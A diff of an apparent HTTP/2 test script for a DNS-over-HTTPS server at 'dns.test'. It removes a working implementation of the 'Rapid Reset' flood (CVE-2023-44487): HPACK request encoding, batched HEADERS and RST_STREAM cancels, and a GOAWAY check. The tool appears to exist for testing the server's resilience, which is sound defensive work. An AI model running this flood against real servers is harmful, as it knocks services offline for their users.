@@ -16,12 +16,6 @@
       request without :method, a stream error); then, after PAUSE seconds, COUNT2 more. Prints
       "goaway" when the server sent GOAWAY or closed the connection within 1.5 s of the last,
       else "open".
-  stream_drip.py h2reset HOST PORT ROUNDS COUNT LIMIT
-      The HTTP/2 "Rapid Reset" flood (CVE-2023-44487): on each of ROUNDS connections, opens
-      streams with a DoH GET and cancels each at once (HEADERS, RST_STREAM), in batches of 50
-      without reading, up to COUNT streams or until the server closes the connection or LIMIT
-      seconds pass. Prints one line per connection: "closed after S resets=N goaway=CODE" (CODE
-      the GOAWAY error code, -1 when none came) or "open after S resets=N".
 Certificates are not verified; SNI is dns.test.
 """
 import base64
@@ -120,21 +114,6 @@ def h2settings(host, port):
             return
 
 
-def hpack_literal(index, value):
-    """A header field without indexing, its name from the static table (RFC 7541 §6.2.2, no Huffman)."""
-    value = value.encode()
-    length = bytes([len(value)]) if len(value) < 127 else bytes([127]) + hpack_integer(len(value) - 127)
-    return bytes([index]) + length + value
-
-
-def hpack_integer(rest):
-    out = b""
-    while rest >= 128:
-        out += bytes([rest % 128 + 128])
-        rest //= 128
-    return out + bytes([rest])
-
-
 def frame(kind, flags, stream, payload):
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
 
@@ -189,66 +168,6 @@ def h2burst(host, port, kind, counts, pause):
                 return
             received = received[9 + length:]
     print("open")
-def goaway_code(data):
-    """The error code of the first GOAWAY frame in `data` (whole frames only), or None."""
-    at = 0
-    while at + 9 <= len(data):
-        length, kind = int.from_bytes(data[at:at + 3], "big"), data[at + 3]
-        if at + 9 + length > len(data):
-            return None
-        if kind == 7 and length >= 8:
-            return int.from_bytes(data[at + 13:at + 17], "big")
-        at += 9 + length
-    return None
-
-
-def h2reset(host, port, rounds, count, limit):
-    query = base64.urlsafe_b64encode(dns.message.make_query("www.example.test.", "A").to_wire()).rstrip(b"=").decode()
-    # :method GET (static 2), :scheme https (static 7), :authority (1), :path (4)
-    block = b"\x82\x87" + hpack_literal(1, "dns.test") + hpack_literal(4, "/dns-query?dns=" + query)
-    for _ in range(rounds):
-        sock = connect(host, port, "h2")
-        sock.sendall(PREFACE + EMPTY_SETTINGS)
-        start = time.monotonic()
-        stream, resets, received, closed = 1, 0, b"", False
-        while resets < count and time.monotonic() - start < limit and not closed:
-            batch = b"".join(frame(1, 0x5, s, block) + frame(3, 0, s, (8).to_bytes(4, "big"))  # CANCEL
-                             for s in range(stream, stream + 100, 2))
-            try:
-                sock.sendall(batch)
-            except (ssl.SSLError, OSError):
-                closed = True
-                break
-            stream += 100
-            resets += 50
-            sock.setblocking(False)
-            try:
-                while True:
-                    chunk = sock.recv(65536)
-                    if not chunk:
-                        closed = True
-                        break
-                    received += chunk
-            except (ssl.SSLWantReadError, BlockingIOError):
-                pass
-            except (ssl.SSLError, OSError):
-                closed = True
-            sock.setblocking(True)
-        deadline = time.monotonic() + 2
-        while not closed and time.monotonic() < deadline:
-            sock.settimeout(max(0.01, deadline - time.monotonic()))
-            try:
-                chunk = sock.recv(65536)
-            except socket.timeout:
-                break
-            except (ssl.SSLError, OSError):
-                chunk = b""
-            closed = chunk == b""
-            received += chunk
-        code = goaway_code(received)
-        state = "closed" if closed else "open"
-        print(f"{state} after {time.monotonic() - start:.1f} resets={resets} goaway={-1 if code is None else code}", flush=True)
-        sock.close()
 
 
 if __name__ == "__main__":
@@ -260,7 +179,5 @@ if __name__ == "__main__":
         more = [int(sys.argv[7])] if len(sys.argv) > 7 else []
         h2burst(sys.argv[2], int(sys.argv[3]), sys.argv[4], [int(sys.argv[5])] + more,
                 float(sys.argv[6]) if len(sys.argv) > 6 else 0)
-    elif sys.argv[1] == "h2reset":
-        h2reset(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6]))
     else:
         raise SystemExit(__doc__)
